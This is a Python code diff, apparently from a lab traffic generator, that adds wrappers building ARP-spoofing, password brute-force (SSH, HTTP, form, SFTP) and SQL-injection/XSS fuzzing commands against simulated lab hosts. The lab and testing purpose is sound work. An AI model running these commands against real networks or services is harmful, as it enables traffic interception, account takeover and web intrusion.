@@ -3,8 +3,10 @@
 from __future__ import annotations
 
 from pathlib import Path
+from urllib.parse import quote
 
 from wirespeak.lab.attacks.guess import words as guesses
+from wirespeak.lab.attacks.inject import SQLI, XSS, payloads
 from wirespeak.lab.attacks.tool import Strike, own, tool
 from wirespeak.lab.world import Host
 
@@ -456,3 +458,145 @@ def patator_sqli(s: Strike, *, pause: float = 0.4, post: bool = False) -> list[s
 def patator_xss(s: Strike, *, pause: float = 0.4, post: bool = False) -> list[str]:
     """patator with a list of script injections that wfuzz brings."""
     return _patator(s, "Injections/XSS.txt", pause=pause, post=post)
+
+
+@tool("spoof.arp", package="arping", reach="mac")
+def arping_spoof(s: Strike, *, interval: float = 1.0, both: bool = False) -> list[str]:
+    """arping's unsolicited replies in the gateway's name to the target, and with `both` the other way round."""
+    ends = (s.target, s.world.host("gateway"))
+    pace = f"-c {max(1, int(s.seconds / interval))} -W {interval:g}"
+
+    def lie(told: Host, other: Host) -> str:
+        return f"arping -q -U -P -i eth0 {pace} -S {other.address} -t {told.mac} {told.address}"
+
+    told = [lie(*ends), lie(*ends[::-1])] if both else [lie(*ends)]
+    return ["sh", "-c", f"{_RELAY}; {' & '.join(told)} & wait"]
+
+
+@tool("spoof.arp", package="netwox", reach="mac")
+def netwox_arp(s: Strike, *, pause_ms: int = 1000) -> list[str]:
+    """netwox's periodic replies in the gateway's name to the target."""
+    lie = f"--eth {s.attacker.mac} --ip {s.world.host('gateway').address}"
+    ends = f"--eth-dst {s.target.mac} --ip-dst {s.address} --device Eth0 --sleep {max(200, pause_ms)}"
+    return ["sh", "-c", f"{_RELAY}; exec timeout {int(s.seconds)} netwox 80 {lie} {ends}"]
+
+
+def _each_line(s: Strike, listed: str, one: str, *, parallel: int, pause: float) -> list[str]:
+    """A shell command for each line of a file, which it finds in $1."""
+    lines = ["xargs", "-a", listed, "-d", "\\n", "-P", str(min(parallel, 8)), "-n", "1"]
+    command = f"sleep {pause:g}; {one} >/dev/null 2>&1; true"
+    return ["timeout", str(int(s.seconds)), *lines, "sh", "-c", command, "each"]
+
+
+@tool("brute_force", package="putty-tools")
+def plink_guess(s: Strike, *, words: int = 60, parallel: int = 1, pause: float = 0.3) -> list[str]:
+    """PuTTY's plink in a loop over a word list: one SSH connection a password."""
+    listed = s.list_file("words", guesses(s.random, min(words, 600)))
+    one = f'echo n | plink -ssh -pw "$1" admin@{s.address} true'
+    return _each_line(s, listed, one, parallel=parallel, pause=pause)
+
+
+@tool("brute_force", package="curl")
+def curl_guess(
+    s: Strike, *, service: str = "http", words: int = 100, parallel: int = 2, pause: float = 0.2
+) -> list[str]:
+    """curl in a loop over a word list, one connection a password: basic authentication, or service "form" or "ssh"."""
+    listed = s.list_file("words", guesses(s.random, min(words, 600)))
+    where = {
+        "http": f'-u "admin:$1" http://{s.address}/admin',
+        "form": f'-d user=admin --data-urlencode "password=$1" http://{s.address}/login',
+        "ssh": f'-k -u "admin:$1" sftp://{s.address}/',
+    }[service]
+    return _each_line(s, listed, f"curl -s -m 8 {where}", parallel=parallel, pause=pause)
+
+
+@tool("brute_force", package="wget")
+def wget_guess(s: Strike, *, words: int = 100, parallel: int = 2, pause: float = 0.2) -> list[str]:
+    """wget in a loop over a word list: one connection a password."""
+    listed = s.list_file("words", guesses(s.random, min(words, 600)))
+    one = f'wget -q -O - -t 1 -T 4 --auth-no-challenge --user admin --password "$1" http://{s.address}/admin'
+    return _each_line(s, listed, one, parallel=parallel, pause=pause)
+
+
+@tool("brute_force", package="netwox")
+def netwox_guess(s: Strike, *, words: int = 150, threads: int = 2) -> list[str]:
+    """netwox on basic authentication: it knows no pace, `words` bounds it."""
+    listed = s.list_file("words", guesses(s.random, min(words, 600)))
+    how = ["--login", "admin", "--password-file", listed, "--numthread", str(threads), "--no-verbose"]
+    return ["netwox", "131", "--uri", f"http://{s.address}/admin", *how]
+
+
+def _gobuster(
+    s: Strike, lines: list[str], *, pause: float, clients: int, post: bool, keep: bool
+) -> list[str]:
+    """Every line in a parameter of the item page, or of the comments."""
+    listed = s.list_file("payloads", [quote(line, safe="") for line in lines])
+    form = ["-m", "POST", "-B", "text=FUZZ&name=x", "-H", "Content-Type: application/x-www-form-urlencoded"]
+    where = form if post else []
+    pace = [
+        "--delay",
+        f"{pause * 1000:.0f}ms",
+        "-t",
+        str(clients),
+        *([] if keep else ["-H", "Connection: close"]),
+    ]
+    page = "comments" if post else "item?id=FUZZ"
+    return ["gobuster", "fuzz", "-q", "-z", "-w", listed, *pace, *where, "-u", f"http://{s.address}/{page}"]
+
+
+@tool("web.sqli", package="gobuster")
+def gobuster_sqli(
+    s: Strike, *, pause: float = 0.4, clients: int = 2, families: str = "case exists file", keep: bool = False
+) -> list[str]:
+    """gobuster with SQL injections of `inject.py`."""
+    lines = payloads(SQLI, families, s.random, 150)
+    return _gobuster(s, lines, pause=pause, clients=clients, post=False, keep=keep)
+
+
+@tool("web.xss", package="gobuster")
+def gobuster_xss(
+    s: Strike,
+    *,
+    pause: float = 0.4,
+    clients: int = 2,
+    families: str = "template spelt meta",
+    keep: bool = False,
+) -> list[str]:
+    """gobuster with script injections of `inject.py`, as comments."""
+    lines = payloads(XSS, families, s.random, 150)
+    return _gobuster(s, lines, pause=pause, clients=clients, post=True, keep=keep)
+
+
+@tool("web.sqli", package="curl")
+def curl_sqli(
+    s: Strike, *, pause: float = 0.4, parallel: int = 2, families: str = "case exists file"
+) -> list[str]:
+    """curl in a loop over SQL injections of `inject.py`, posted to the item page."""
+    listed = s.list_file("payloads", payloads(SQLI, families, s.random, 150))
+    one = f'curl -s -m 4 --data-urlencode "id=$1" http://{s.address}/item'
+    return _each_line(s, listed, one, parallel=parallel, pause=pause)
+
+
+@tool("web.xss", package="wget")
+def wget_xss(
+    s: Strike, *, pause: float = 0.4, families: str = "template spelt meta", keep: bool = False
+) -> list[str]:
+    """wget with a list of addresses that carry script injections of `inject.py`."""
+    lines = payloads(XSS, families, s.random, 150)
+    pages = [f"http://{s.address}/search?q={quote(line, safe='')}" for line in lines]
+    kept = [] if keep else ["--no-http-keep-alive"]
+    return [
+        "wget",
+        "-q",
+        "-O",
+        "/dev/null",
+        "-t",
+        "1",
+        "-T",
+        "4",
+        "-w",
+        f"{pause:g}",
+        *kept,
+        "-i",
+        s.list_file("pages", pages),
+    ]
